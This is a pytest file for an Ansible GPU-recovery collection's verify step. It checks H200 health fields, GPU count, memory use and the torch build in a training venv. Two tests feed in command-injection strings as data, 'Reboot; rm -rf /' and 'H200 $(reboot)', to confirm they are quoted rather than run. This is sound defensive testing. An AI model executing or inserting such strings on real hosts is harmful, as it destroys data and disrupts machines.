"""plugins/module_utils/steps/verify/ (facts.py, answers.py, gpu_checks.py, torch_checks.py) and its probe
(plugins/module_utils/steps/verify/probe.py): the verify step's pure logic.

nvidia-smi outputs are the real H200 capture (tests/fixtures/h200/nvsmi_query_gpu_project.csv) with single cells
replaced, fed through preflight's own evaluation, so verify reads exactly the facts the fact pass hands it. Torch
answers are tests/fixtures/h200/torch_facts.json (real) and tests/fixtures/verify (its shape, by situation). The
probe part reads venvs made in tmp_path; the torch script runs in real interpreters against a stub ``torch``
package, never the real one.
"""

import ast
import inspect
import json
import subprocess
import sys

import pytest
from ansible.module_utils.common.arg_spec import ArgumentSpecValidator
from ansible_collections.pve_gpu.recover.plugins.module_utils.node.nvidia_smi import GPU_FIELDS
from ansible_collections.pve_gpu.recover.plugins.module_utils.node.shared_reads import SharedReads
from ansible_collections.pve_gpu.recover.plugins.module_utils.node.target import probe_name
from ansible_collections.pve_gpu.recover.plugins.module_utils.steps import registry as step_registry
from ansible_collections.pve_gpu.recover.plugins.module_utils.steps.preflight import facts as preflight_facts
from ansible_collections.pve_gpu.recover.plugins.module_utils.steps.verify import answers as verify_answers
from ansible_collections.pve_gpu.recover.plugins.module_utils.steps.verify import facts as verify_facts
from ansible_collections.pve_gpu.recover.plugins.module_utils.steps.verify import gpu_checks as verify_gpu_checks
from ansible_collections.pve_gpu.recover.plugins.module_utils.steps.verify import probe as verify_probe
from ansible_collections.pve_gpu.recover.plugins.module_utils.steps.verify import torch_checks as verify_torch_checks
from ansible_collections.pve_gpu.recover.plugins.module_utils.steps.verify.answers import VerifyError

from tests.conftest import FIXTURES, other_python, unavailable
from tests.fakes import run_probes_program

LABEL = "CT 200 on pve1"
CAPTURE = (FIXTURES / "h200" / "nvsmi_query_gpu_project.csv").read_text()
HEADER, ROW = CAPTURE.splitlines()
FIELDS = [field for field, _, _ in GPU_FIELDS]
REAL_UUID = "GPU-993fc641-cebc-abe5-5c7f-fa80fed8aff9"
TORCH_REAL = json.loads((FIXTURES / "h200" / "torch_facts.json").read_text())
VERIFY = FIXTURES / "verify"
KNOWN_GOOD = dict(verify_facts.SPEC_DEFAULTS, torch_version="2.11.0+cu128", cuda_version="12.8")
VERSION_PY_CU130 = (FIXTURES / "venv" / "version_py_cu130.txt").read_text()
VERSION_PY_CU128 = VERSION_PY_CU130.replace("cu130", "cu128").replace("'13.0'", "'12.8'")


# -- the facts verify is handed --------------------------------------------------------------------------------
def uuid(index):
    return REAL_UUID[:-1] + "0123456789abcdef"[index]


def row(index, **cells):
    """The captured row as GPU ``index`` of the target, with ``cells`` ({field: text as printed}) replaced."""
    values = dict(zip(FIELDS, ROW.split(", "), strict=True))
    values.update({"index": str(index), "uuid": uuid(index), "pci.bus_id": f"00000000:{index + 0x18:02X}:00.0"})
    values.update(cells)
    return ", ".join(values[field] for field in FIELDS)


def smi(*rows):
    return HEADER + "\n" + "".join(f"{r}\n" for r in rows)


def eight(changed=None, **cells):
    """Eight GPUs like the captured one; ``changed`` is the index whose ``cells`` differ (all of them if None)."""
    return smi(*(row(i, **(cells if changed in (None, i) else {})) for i in range(8)))


def preflight_of(stdout, nodes=8):
    """Preflight's facts for a CT whose nvidia-smi printed ``stdout`` and which has ``nodes`` /dev/nvidiaN."""
    devices = [{"path": f"/dev/nvidia{i}", "char": True} for i in range(nodes)]
    devices += [{"path": p, "char": True} for p in ("/dev/nvidiactl", "/dev/nvidia-uvm")]
    answer = {
        "hostname": "ct200",
        "python": "3.11.2",
        "devices": devices,
        "kernel_version_text": (FIXTURES / "h200" / "proc_driver_nvidia_version.txt").read_text(),
        "nvml_libraries": ["/usr/lib/x86_64-linux-gnu/libnvidia-ml.so.580.159.04"],
        "nvidia_smi": {"rc": 0, "stdout": stdout, "stderr": ""},
        "space": {"path": "/opt", "existing": "/opt", "free_bytes": 100 * 1024**3},
    }
    context = {"target": {"label": LABEL, "vmid": 200, "node": "pve1"}, "check_mode": False, "steps": {}}
    spec = dict(preflight_facts.SPEC_DEFAULTS, expected_gpu_count=nodes)
    facts = preflight_facts.evaluate_step(spec, answer, {"driver_version": "580.159.04"}, context)
    assert facts["problems"] == [], facts["problems"]
    return facts


def context(preflight=None, *, check_mode=False, **steps):
    return {
        "target": {"label": LABEL, "vmid": 200, "node": "pve1"},
        "check_mode": check_mode,
        "steps": {"preflight": preflight or preflight_of(eight()), **steps},
    }


def venv_answer(version_py=VERSION_PY_CU128, exists=True):
    parsed = verify_probe.parse_torch_version_py(version_py) if version_py else None
    return {
        "venv": "/opt/venvs/train",
        "exists": exists,
        "python": exists,
        "site_packages": "/opt/venvs/train/lib/python3.11/site-packages" if exists else None,
        "torch_version_py": parsed,
    }


def evaluate(spec=None, answer=None, ctx=None, **changed):
    spec = dict(spec or verify_facts.SPEC_DEFAULTS, **changed)
    return verify_facts.evaluate_step(spec, answer or venv_answer(), {}, ctx or context())


def check(facts_or_checks, name):
    checks = facts_or_checks["checks"] if isinstance(facts_or_checks, dict) else facts_or_checks
    found = [c for c in checks if c["name"] == name]
    assert len(found) == 1, [c["name"] for c in checks]
    return found[0]


# -- the healthy fixture -----------------------------------------------------------------------------------------
def test_eight_healthy_h200s_and_the_known_good_venv_pass_every_check_quietly():
    facts = evaluate(KNOWN_GOOD)
    assert (facts["problems"], facts["warnings"], facts["deferred"]) == ([], [], [])
    assert all(c["ok"] is True for c in facts["checks"])
    assert [c["name"] for c in facts["checks"]] == [
        "gpu_count",
        "gpu_name",
        "memory",
        "ecc",
        "remapped_rows",
        "recovery_action",
        "pcie_width",
        "persistence_mode",
        "torch_version",
        "cuda_version",
    ]
    assert facts["expected"] == {
        "gpu_count": 8,
        "gpu_name": "NVIDIA H200",
        "max_memory_used_mib": 0,
        "driver_version": None,
        "torch_version": "2.11.0+cu128",
        "cuda_version": "12.8",
    }
    assert facts["torch"] == {"version": "2.11.0+cu128", "cuda": "12.8", "source": "torch/version.py", "rebuilt": False}
    # verify changes nothing, ever.
    assert (facts["changes"], facts["diff"], facts["pending"]) == ([], {"before": "", "after": ""}, False)


def test_the_real_capture_is_healthy_as_it_was_printed():
    facts = evaluate(ctx=context(preflight_of(CAPTURE, nodes=1)))
    assert facts["problems"] == facts["warnings"] == []
    assert check(facts, "gpu_count")["detail"] == "CT 200 on pve1: nvidia-smi sees 1 GPU"


# -- health: each check fires, names the GPU, and stays quiet otherwise -----------------------------------------
HEALTH_CASES = [
    (
        "ecc",
        {"ecc.errors.uncorrected.volatile.total": "3"},
        "CT 200 on pve1: uncorrected volatile ECC errors: GPU 5 (GPU-993fc641-cebc-abe5-5c7f-fa80fed8aff5): 3; "
        "expected 0 on every GPU; its memory had uncorrectable errors since its last reset: drain it and reset it "
        "(on the node: nvidia-smi --gpu-reset -i <its uuid>, with no process on it) or reboot the node; errors that "
        "come back mean an RMA",
    ),
    (
        "remapped_rows",
        {"remapped_rows.pending": "Yes"},
        "CT 200 on pve1: memory row remapping: GPU 5 (GPU-993fc641-cebc-abe5-5c7f-fa80fed8aff5): a row remap is "
        "pending; expected no pending or failed row remap; a pending remap is applied by a GPU reset (or a reboot "
        "of the node)",
    ),
    (
        "remapped_rows",
        {"remapped_rows.failure": "Yes"},
        "CT 200 on pve1: memory row remapping: GPU 5 (GPU-993fc641-cebc-abe5-5c7f-fa80fed8aff5): a row remap "
        "failed; expected no pending or failed row remap; a failed remap means the GPU ran out of spare rows: it "
        "needs an RMA",
    ),
    (
        "recovery_action",
        {"gpu_recovery_action": "Reset"},
        "CT 200 on pve1: the recovery action the driver asks for: GPU 5 (GPU-993fc641-cebc-abe5-5c7f-fa80fed8aff5): "
        "Reset; expected None on every GPU; reset it (on the node: nvidia-smi --gpu-reset -i <its uuid>, with no "
        "process on it)",
    ),
    (
        "recovery_action",
        {"gpu_recovery_action": "Drain and Reset"},
        "CT 200 on pve1: the recovery action the driver asks for: GPU 5 (GPU-993fc641-cebc-abe5-5c7f-fa80fed8aff5): "
        "Drain and Reset; expected None on every GPU; drain it (no new work), then reset it once its jobs ended",
    ),
    (
        "pcie_width",
        {"pcie.link.width.current": "8"},
        "CT 200 on pve1: PCIe link width below its maximum: GPU 5 (GPU-993fc641-cebc-abe5-5c7f-fa80fed8aff5): x8 of "
        "x16; expected the maximum width on every GPU; a degraded link (a loose card or riser, a bad slot): reseat "
        "it; transfers between host and GPU run at a fraction of the bandwidth",
    ),
    (
        "persistence_mode",
        {"persistence_mode": "Disabled"},
        "CT 200 on pve1: persistence mode: GPU 5 (GPU-993fc641-cebc-abe5-5c7f-fa80fed8aff5): off; expected on for "
        "every GPU; enable it on the node (systemctl enable --now nvidia-persistenced), or every CUDA start "
        "initializes the GPUs again",
    ),
]


@pytest.mark.parametrize(
    ("name", "cells", "detail"), HEALTH_CASES, ids=[f"{c[0]}-{next(iter(c[1]))}" for c in HEALTH_CASES]
)
def test_each_health_check_fires_naming_the_gpu_at_its_default_level(name, cells, detail):
    facts = evaluate(ctx=context(preflight_of(eight(5, **cells))))
    found = check(facts, name)
    assert (found["ok"], found["detail"]) == (False, detail)
    level = verify_gpu_checks.HEALTH_DEFAULTS[name]
    assert found["severity"] == level
    assert (facts["problems"] if level == "fail" else facts["warnings"]) == [detail]
    assert (facts["warnings"] if level == "fail" else facts["problems"]) == []
    # Only that check fired.
    assert [c["name"] for c in facts["checks"] if c["ok"] is False] == [name]


@pytest.mark.parametrize("level", ["fail", "warn", "ignore"])
def test_a_health_level_decides_problem_warning_or_nothing(level):
    stdout = eight(2, **{"ecc.errors.uncorrected.volatile.total": "1"})
    facts = evaluate(ctx=context(preflight_of(stdout)), health={"ecc": level})
    names = [c["name"] for c in facts["checks"]]
    if level == "ignore":
        assert "ecc" not in names
        assert facts["problems"] == facts["warnings"] == []
        return
    detail = check(facts, "ecc")["detail"]
    assert (detail in facts["problems"], detail in facts["warnings"]) == (level == "fail", level == "warn")
    # The other checks keep their defaults.
    assert facts["health"] == dict(verify_gpu_checks.HEALTH_DEFAULTS, ecc=level)


def test_an_idle_gpu_below_its_pcie_generation_is_only_a_finding_when_asked():
    stdout = eight(**{"pcie.link.gen.current": "1"})  # every GPU idles at gen 1
    quiet = evaluate(ctx=context(preflight_of(stdout)))
    assert "pcie_gen" not in [c["name"] for c in quiet["checks"]]
    assert quiet["problems"] == quiet["warnings"] == []
    asked = evaluate(ctx=context(preflight_of(stdout)), health={"pcie_gen": "warn"})
    found = check(asked, "pcie_gen")
    assert found["found"][0] == "GPU 0 (GPU-993fc641-cebc-abe5-5c7f-fa80fed8aff0): gen 1 of gen 5"
    assert len(found["found"]) == 8
    assert "an idle GPU lowers its link generation to save power, so look again under load" in found["detail"]
    assert asked["warnings"] == [found["detail"]]


def test_a_healthy_gpu_at_its_maximum_link_is_quiet_even_when_gen_is_checked():
    facts = evaluate(health={"pcie_gen": "fail"})
    assert check(facts, "pcie_gen")["ok"] is True


def test_a_value_that_makes_a_check_impossible_names_the_gpu_and_the_marker():
    stdout = eight(3, **{"ecc.errors.uncorrected.volatile.total": "[GPU requires reset]"})
    facts = evaluate(ctx=context(preflight_of(stdout)))
    found = check(facts, "ecc")
    assert found["ok"] is False
    assert found["found"] == ["GPU 3 (GPU-993fc641-cebc-abe5-5c7f-fa80fed8aff3): '[GPU requires reset]'"]
    assert (
        "a value nvidia-smi could not read makes the check impossible ([GPU requires reset]: reset the GPU"
        in (found["detail"])
    )
    assert facts["problems"] == [found["detail"]]


def test_not_available_is_a_finding_where_every_driver_reports_the_field():
    stdout = eight(1, **{"ecc.errors.uncorrected.volatile.total": "[N/A]", "persistence_mode": "[N/A]"})
    facts = evaluate(ctx=context(preflight_of(stdout)))
    assert check(facts, "ecc")["found"] == [
        "GPU 1 (GPU-993fc641-cebc-abe5-5c7f-fa80fed8aff1): not reported ([N/A] or [Not Supported])"
    ]
    assert "set verify_health's ecc to ignore" in check(facts, "ecc")["detail"]
    assert check(facts, "persistence_mode")["ok"] is False


def test_fields_an_older_driver_does_not_know_are_skipped_when_absent():
    # preflight's fallback query drops gpu_recovery_action and remapped_rows.failure: their None means "not asked".
    stdout = eight(**{"gpu_recovery_action": "[N/A]", "remapped_rows.failure": "[N/A]"})
    facts = evaluate(ctx=context(preflight_of(stdout)))
    assert check(facts, "recovery_action")["ok"] is True
    assert check(facts, "remapped_rows")["ok"] is True


def test_every_failing_gpu_is_named_in_one_sentence_and_advice_is_not_repeated():
    stdout = smi(*(row(i, **({"remapped_rows.pending": "Yes"} if i in (1, 6) else {})) for i in range(8)))
    detail = check(evaluate(ctx=context(preflight_of(stdout))), "remapped_rows")["detail"]
    assert "GPU 1 (GPU-993fc641-cebc-abe5-5c7f-fa80fed8aff1): a row remap is pending; GPU 6 (" in detail
    assert detail.count("a pending remap is applied by a GPU reset") == 1


def test_an_unknown_recovery_action_is_quoted_not_pasted():
    stdout = eight(0, gpu_recovery_action="Reboot; rm -rf /")
    detail = check(evaluate(ctx=context(preflight_of(stdout))), "recovery_action")["detail"]
    assert "GPU 0 (GPU-993fc641-cebc-abe5-5c7f-fa80fed8aff0): 'Reboot; rm -rf /'" in detail
    assert "see NVIDIA's GPU recovery documentation for that action" in detail


# -- count, model, memory, driver ---------------------------------------------------------------------------------
def test_fewer_gpus_than_device_nodes_is_a_problem():
    facts = evaluate(ctx=context(preflight_of(smi(*(row(i) for i in range(7))))))
    assert facts["problems"] == [
        "CT 200 on pve1: nvidia-smi sees 7 GPUs, expected 8 (the target's /dev/nvidiaN nodes); a GPU fell off the bus "
        "or is not passed through to the target (nvidia-smi -L and dmesg | grep -i xid on the node)"
    ]


def test_gpu_count_of_the_spec_wins_over_the_device_nodes():
    facts = evaluate(gpu_count=4)
    found = check(facts, "gpu_count")
    assert (found["ok"], found["expected"], found["found"]) == (False, 4, 8)
    assert "expected 4 (verify_gpu_count); more GPUs are passed through than expected" in found["detail"]


def test_another_gpu_model_is_a_problem_and_its_name_is_quoted_when_odd():
    stdout = smi(*(row(i, name="NVIDIA A100-SXM4-80GB" if i == 2 else "NVIDIA H200") for i in range(8)))
    facts = evaluate(ctx=context(preflight_of(stdout)))
    assert facts["problems"] == [
        "CT 200 on pve1: GPU 2 (GPU-993fc641-cebc-abe5-5c7f-fa80fed8aff2) is NVIDIA A100-SXM4-80GB, expected NVIDIA "
        "H200; another GPU model is passed through to the target (check its /dev/nvidiaN entries) or "
        "verify_gpu_name names the wrong model"
    ]
    odd = smi(*(row(i, name="H200 $(reboot)" if i == 0 else "NVIDIA H200") for i in range(8)))
    assert (
        "GPU 0 (GPU-993fc641-cebc-abe5-5c7f-fa80fed8aff0) is 'H200 $(reboot)',"
        in (evaluate(ctx=context(preflight_of(odd)))["problems"][0])
    )
    assert "gpu_name" not in [c["name"] for c in evaluate(gpu_name="")["checks"]]


def test_memory_in_use_is_a_problem_when_no_step_of_this_run_frees_it():
    stdout = eight(4, **{"memory.used": "20480 MiB", "memory.free": "122676 MiB"})
    facts = evaluate(ctx=context(preflight_of(stdout)))
    assert facts["problems"] == [
        "CT 200 on pve1: GPU 4 (GPU-993fc641-cebc-abe5-5c7f-fa80fed8aff4) uses 20480 MiB, expected at most 0 MiB; a "
        "process still holds it: the gpu_processes step ends it (turn it on), or raise verify_max_memory_used_mib"
    ]
    assert evaluate(ctx=context(preflight_of(stdout)), max_memory_used_mib=20480)["problems"] == []


@pytest.mark.parametrize(
    ("gpu_step", "why"),
    [
        ({"pending": True, "problems": []}, "the gpu_processes step ends the processes holding it in this run"),
        ({"pending": False, "problems": ["pid 777 belongs to CT 201"]}, "whose problems name the holders"),
    ],
)
def test_memory_the_gpu_step_frees_or_already_names_is_deferred(gpu_step, why):
    stdout = eight(4, **{"memory.used": "20480 MiB"})
    facts = evaluate(ctx=context(preflight_of(stdout), gpu_processes=gpu_step))
    memory = check(facts, "memory")
    assert memory["ok"] is None and why in memory["detail"]
    assert (facts["problems"], facts["deferred"]) == ([], ["memory"])


# Unattended with the training job guarded (found by the recover scenario: the correction run failed here): the
# GPUs the job keeps are left out, the others are still asserted.
def test_memory_of_the_gpus_the_guarded_job_keeps_is_left_out_and_the_others_are_asserted():
    window = {"pending": False, "problems": [], "needs_window": ["pid 23639 (train-job) ... left running"]}
    stdout = eight(4, **{"memory.used": "20480 MiB"})
    facts = evaluate(ctx=context(preflight_of(stdout), gpu_processes=dict(window, kept_gpus=[4])))
    memory = check(facts, "memory")
    assert memory["ok"] is True and memory["detail"].endswith(
        "every GPU uses at most 0 MiB except GPU 4, which the guarded training job keeps until a window"
    )
    assert facts["problems"] == []
    facts = evaluate(ctx=context(preflight_of(stdout), gpu_processes=dict(window, kept_gpus=[3])))
    assert check(facts, "memory")["ok"] is False
    assert "GPU 4 (" in facts["problems"][0] and "uses 20480 MiB" in facts["problems"][0]


def test_memory_that_cannot_be_read_is_a_finding():
    stdout = eight(6, **{"memory.used": "[GPU requires reset]"})
    detail = evaluate(ctx=context(preflight_of(stdout)))["problems"][0]
    assert "GPU 6 (GPU-993fc641-cebc-abe5-5c7f-fa80fed8aff6) reports memory.used as '[GPU requires reset]'" in detail


def test_the_driver_is_asserted_only_when_asked():
    assert "driver_version" not in [c["name"] for c in evaluate()["checks"]]
    assert check(evaluate(driver_version="580.159.04"), "driver_version")["ok"] is True
    assert evaluate(driver_version="580.95.05")["problems"] == [
        "CT 200 on pve1: NVML reports driver 580.159.04, expected 580.95.05; install driver 580.95.05 on the node "
        "(and the same userspace driver, without its kernel module, in the target)"
    ]


# -- torch in the fact pass: torch/version.py, never imported ------------------------------------------------------
def test_torch_is_not_asserted_by_default_but_its_build_is_reported():
    facts = evaluate(answer=venv_answer(VERSION_PY_CU130))
    assert [c for c in facts["checks"] if c["name"].startswith(("torch", "cuda"))] == []
    assert facts["problems"] == []
    assert facts["torch"] == {"version": "2.11.0+cu130", "cuda": "13.0", "source": "torch/version.py", "rebuilt": False}


@pytest.mark.parametrize(
    ("version_py", "problems"),
    [
        (
            VERSION_PY_CU130,
            [
                "CT 200 on pve1: torch is 2.11.0+cu130 (torch/version.py in /opt/venvs/train), expected 2.11.0+cu128; "
                "the other CUDA build of torch (cu130, expected cu128); take torch from "
                "https://download.pytorch.org/whl/cu128 (an --extra-index-url of the training_venv lock)",
                "CT 200 on pve1: torch's CUDA is 13.0 (torch/version.py in /opt/venvs/train), expected 12.8; the other "
                "CUDA build of torch (2.11.0+cu130)",
            ],
        ),
        (
            "__version__ = '2.13.0+cpu'\ncuda: Optional[str] = None\n",
            [
                "CT 200 on pve1: torch is 2.13.0+cpu (torch/version.py in /opt/venvs/train), expected 2.11.0+cu128; "
                "a CPU build: torch came from the wrong index (the CPU wheel, from PyPI's default index or the "
                "/whl/cpu index); take torch from https://download.pytorch.org/whl/cu128 (an --extra-index-url of the "
                "training_venv lock)",
                "CT 200 on pve1: torch's CUDA is none (a CPU build) (torch/version.py in /opt/venvs/train), expected "
                "12.8; a CPU build: torch came from the wrong index (the CPU wheel, from PyPI's default index or the "
                "/whl/cpu index); take torch from https://download.pytorch.org/whl/cu128 (an --extra-index-url of the "
                "training_venv lock)",
            ],
        ),
        (
            None,
            [
                "CT 200 on pve1: torch is not installed (torch/version.py in /opt/venvs/train), expected 2.11.0+cu128; "
                "no torch is installed there: the training_venv step installs the lock (pinning torch==2.11.0+cu128)",
                "CT 200 on pve1: torch's CUDA is none (a CPU build) (torch/version.py in /opt/venvs/train), expected "
                "12.8; no torch is installed there: the training_venv step installs the lock",
            ],
        ),
    ],
    ids=["other-cuda-build", "cpu-build", "no-torch"],
)
def test_a_wrong_torch_in_the_venv_is_a_problem_with_its_cause(version_py, problems):
    assert evaluate(KNOWN_GOOD, venv_answer(version_py))["problems"] == problems


def test_a_cpu_build_of_the_same_release_names_the_wrong_index():
    answer = venv_answer("__version__ = '2.11.0+cpu'\ncuda = None\n")
    problem = evaluate(KNOWN_GOOD, answer)["problems"][0]
    assert problem.endswith(
        "expected 2.11.0+cu128; a CPU build: torch came from the wrong index (the CPU wheel, from PyPI's default index "
        "or the /whl/cpu index); take torch from https://download.pytorch.org/whl/cu128 (an --extra-index-url of the "
        "training_venv lock)"
    )


def test_no_venv_at_all_says_so():
    facts = evaluate(dict(KNOWN_GOOD, cuda_version=""), venv_answer(None, exists=False))
    assert facts["problems"][0].startswith("CT 200 on pve1: torch is not installed (no venv at /opt/venvs/train)")


def venv_step(pending, lock_torch="2.11.0+cu128", path="/opt/venvs/train"):
    return {"path": path, "pending": pending, "problems": [], "lock": {"torch": lock_torch}, "changes": []}


def test_torch_the_venv_step_rebuilds_in_this_run_is_checked_after_it():
    facts = evaluate(KNOWN_GOOD, venv_answer(VERSION_PY_CU130), context(training_venv=venv_step(True)))
    assert facts["problems"] == []
    assert facts["deferred"] == ["torch_version", "cuda_version"]
    assert check(facts, "torch_version")["detail"] == (
        "CT 200 on pve1: torch: the training_venv step rebuilds the venv in this run; checked after it"
    )
    # What is there now is still reported; the venv step replaces it.
    assert facts["torch"] == {"version": "2.11.0+cu130", "cuda": "13.0", "source": "torch/version.py", "rebuilt": True}


def test_a_venv_step_for_another_venv_or_with_nothing_to_do_leaves_the_file_check():
    for step in (venv_step(True, path="/opt/venvs/other"), venv_step(False)):
        facts = evaluate(KNOWN_GOOD, venv_answer(VERSION_PY_CU130), context(training_venv=step))
        assert check(facts, "torch_version")["ok"] is False


@pytest.mark.parametrize(
    ("lock_torch", "conflict"),
    [("2.11.0+cu130", True), ("2.10.0+cu128", True), ("2.10.0", True), ("2.11.0+cu128", False), ("2.11.0", False)],
)
def test_a_lock_that_can_never_meet_the_spec_is_a_problem_before_the_rebuild(lock_torch, conflict):
    facts = evaluate(KNOWN_GOOD, venv_answer(VERSION_PY_CU130), context(training_venv=venv_step(True, lock_torch)))
    if conflict:
        assert facts["problems"] == [
            f"CT 200 on pve1: the training_venv lock pins torch {lock_torch}, expected 2.11.0+cu128; the rebuild "
            "this run makes cannot pass verify: pin torch==2.11.0+cu128 in the lock, or set verify_torch_version to "
            "the lock's"
        ]
    else:
        assert facts["problems"] == []


# -- pending: when the acting module runs ------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("import_torch", "other_pending", "check_mode", "pending"),
    [
        ("changed", False, False, False),
        ("changed", True, False, True),
        ("changed", True, True, False),  # check mode changes nothing: nothing new to verify
        ("always", False, False, True),
        ("always", False, True, True),
        ("never", True, False, False),
        ("never", False, False, False),
    ],
)
def test_pending_rules(import_torch, other_pending, check_mode, pending):
    steps = {"training_code": {"pending": other_pending, "problems": [], "changes": []}}
    ctx = context(check_mode=check_mode, **steps)
    facts = evaluate(import_torch=import_torch, ctx=ctx)
    assert facts["pending"] is pending
    assert facts["steps_with_work"] == (["training_code"] if other_pending else [])
    assert facts["changes"] == []


def test_a_problem_leaves_nothing_pending():
    ctx = context(preflight_of(eight(0, gpu_recovery_action="Reboot")))
    assert evaluate(import_torch="always", ctx=ctx)["pending"] is False


# -- settings --------------------------------------------------------------------------------------------------
def test_the_spec_validates_with_ansible_and_fills_health_defaults():
    result = ArgumentSpecValidator(verify_facts.SPEC).validate({"health": {"pcie_gen": "warn"}, "gpu_count": "8"})
    assert result.error_messages == []
    params = result.validated_parameters
    assert params["health"] == dict(verify_gpu_checks.HEALTH_DEFAULTS, pcie_gen="warn")
    assert (params["gpu_count"], params["import_torch"], params["gpu_name"]) == (8, "changed", "NVIDIA H200")
    assert params == dict(verify_facts.SPEC_DEFAULTS, gpu_count=8, health=params["health"])
    wrong = ArgumentSpecValidator(verify_facts.SPEC).validate({"health": {"ecc": "maybe", "fans": "fail"}})
    assert any("ecc must be one of: fail, warn, ignore" in m for m in wrong.error_messages)
    assert any("health.fans" in m for m in wrong.error_messages)


@pytest.mark.parametrize(
    ("changed", "message"),
    [
        ({}, ""),
        ({"torch_version": "2.11.0+cu128", "cuda_version": "12.8"}, ""),
        ({"venv": "venvs/train"}, "venv is 'venvs/train'; give the venv's absolute path"),
        ({"torch_version": "2.11 +cu128"}, "torch_version is '2.11 +cu128'; give torch.__version__ exactly"),
        ({"cuda_version": "cu128"}, "cuda_version is 'cu128'; give torch.version.cuda, like '12.8'"),
        (
            {"torch_version": "2.11.0+cu130", "cuda_version": "12.8"},
            "torch_version 2.11.0+cu130 is a CUDA 13.0 build but cuda_version is 12.8",
        ),
        ({"torch_version": "2.13.0+cpu", "cuda_version": "12.8"}, "torch_version 2.13.0+cpu is a CPU build"),
        ({"gpu_count": 0}, "gpu_count is 0; give the number of GPUs (at least 1)"),
        ({"max_memory_used_mib": -1}, "max_memory_used_mib is -1; give 0 or more MiB"),
        ({"driver_version": "latest"}, "driver_version is 'latest'; give the driver as NVML reports it"),
    ],
)
def test_check_spec_names_settings_that_cannot_work(changed, message):
    said = verify_facts.check_spec(dict(verify_facts.SPEC_DEFAULTS, **changed))
    assert said.startswith(message) and bool(said) == bool(message)


# -- the registry: verify is the LAST step -----------------------------------------------------------------------
def test_the_step_is_the_registrys_last_entry():
    assert step_registry.STEP_NAMES[-1] == verify_facts.NAME
    assert step_registry.load_step("verify") is verify_facts
    assert probe_name(verify_facts.PROBE) == verify_facts.NAME
    assert verify_facts.NAME not in step_registry.RESERVED
    specs = step_registry.validate_specs({"verify": {"torch_version": "2.11.0+cu128", "health": {"pcie_gen": "warn"}}})
    assert list(specs) == ["preflight", "verify"]
    assert specs["verify"]["health"]["pcie_gen"] == "warn"
    parts = step_registry.probe_parts(specs, 60)
    assert parts["verify"] == (verify_probe, {"venv": "/opt/venvs/train"})
    with pytest.raises(step_registry.StepSpecError, match="settings of step verify: cuda_version is 'cu128'"):
        step_registry.validate_specs({"verify": {"cuda_version": "cu128"}})


class GpuStep:
    """A stand-in for the gpu_processes step with work in this run, evaluated between preflight and verify."""

    NAME, PROBE = "gpu_processes", None

    @staticmethod
    def read_node(*_):
        return {}

    @staticmethod
    def evaluate_step(*_):
        return {"pending": True, "problems": [], "changes": ["end pid 516"], "diff": {"before": "", "after": ""}}


def test_evaluated_last_it_sees_every_step_before_it_and_a_malformed_part_is_a_problem(monkeypatch):
    monkeypatch.setitem(step_registry.LOADERS, "gpu_processes", lambda: GpuStep)
    monkeypatch.setattr(preflight_facts, "read_node_driver_version", lambda _path: "580.159.04")
    specs = {
        "preflight": dict(preflight_facts.SPEC_DEFAULTS, expected_gpu_count=8),
        "gpu_processes": {},
        "verify": dict(KNOWN_GOOD),
    }
    preflight_answer = {
        "hostname": "ct200",
        "python": "3.11.2",
        "devices": [{"path": f"/dev/nvidia{i}", "char": True} for i in range(8)]
        + [{"path": p, "char": True} for p in ("/dev/nvidiactl", "/dev/nvidia-uvm")],
        "kernel_version_text": (FIXTURES / "h200" / "proc_driver_nvidia_version.txt").read_text(),
        "nvml_libraries": [],
        "nvidia_smi": {"rc": 0, "stdout": eight(), "stderr": ""},
        "space": {"path": "/opt", "existing": "/opt", "free_bytes": 10**12},
    }
    answers = {"preflight": {"answer": preflight_answer}, "verify": {"answer": venv_answer()}}
    ctx = dict(context(), steps={}, shared=SharedReads())  # as the fact pass's context has it
    facts = step_registry.evaluate_steps(specs, None, answers, ctx)
    assert list(facts) == ["preflight", "gpu_processes", "verify"]
    assert facts["verify"]["pending"] is True  # the GPU step has work in this run
    assert (facts["verify"]["problems"], facts["verify"]["steps_with_work"]) == ([], ["gpu_processes"])
    answers["verify"] = {"answer": {"exists": "yes"}}
    broken = step_registry.evaluate_steps(specs, None, answers, dict(ctx, steps={}))["verify"]
    assert broken["problems"] == [
        "CT 200 on pve1: the verify facts could not be read: the verify probe answered no 'exists' (bool)"
    ]
    assert broken["pending"] is False


# -- the fact pass's probe part ------------------------------------------------------------------------------------
def make_venv_dir(root, minors=("3.11",), version_py=VERSION_PY_CU128, cfg_minor="3.11"):
    """A venv's layout as the probe reads it (files only: the probe never runs the venv's python)."""
    (root / "bin").mkdir(parents=True)
    (root / "bin" / "python").write_text("")
    if cfg_minor:
        (root / "pyvenv.cfg").write_text(f"home = /usr/bin\nversion_info = {cfg_minor}.2.final.0\n")
    for minor in minors:
        torch = root / "lib" / f"python{minor}" / "site-packages" / "torch"
        torch.mkdir(parents=True)
        if version_py is not None:
            (torch / "version.py").write_text(version_py.replace("2.11.0", f"2.11.{minors.index(minor)}"))
    return root


def test_the_probe_reads_torch_version_py_as_text(tmp_path):
    venv = make_venv_dir(tmp_path / "train", version_py=VERSION_PY_CU130)
    assert verify_probe.probe({"venv": str(venv)}) == {
        "venv": str(venv),
        "exists": True,
        "python": True,
        "site_packages": str(venv / "lib" / "python3.11" / "site-packages"),
        "torch_version_py": {
            "version": "2.11.0+cu130",
            "cuda": "13.0",
            "git_version": "70d99e998b4955e0049d13a9ba1d3e2e1ac7a3e6",
        },
        "unsafe": None,
    }


def test_the_probe_takes_the_site_packages_of_the_venvs_python(tmp_path):
    venv = make_venv_dir(tmp_path / "train", minors=("3.10", "3.11"))
    answer = verify_probe.probe({"venv": str(venv)})
    assert answer["torch_version_py"]["version"] == "2.11.1+cu128"  # lib/python3.11, as pyvenv.cfg says
    unnamed = make_venv_dir(tmp_path / "two", minors=("3.10", "3.11"), cfg_minor=None)
    assert verify_probe.probe({"venv": str(unnamed)})["site_packages"] is None  # which one? neither
    # pyvenv.cfg names 3.11, only 3.10's is there: the venv's python never imports it, so no torch is read from it.
    other = make_venv_dir(tmp_path / "other", minors=("3.10",), cfg_minor="3.11")
    assert verify_probe.probe({"venv": str(other)})[("site_packages")] is None
    assert verify_probe.probe({"venv": str(other)})["torch_version_py"] is None


def test_the_probe_answers_for_a_missing_venv_and_a_venv_without_torch(tmp_path):
    assert verify_probe.probe({"venv": str(tmp_path / "none")}) == {
        "venv": str(tmp_path / "none"),
        "exists": False,
        "python": False,
        "site_packages": None,
        "torch_version_py": None,
        "unsafe": None,
    }
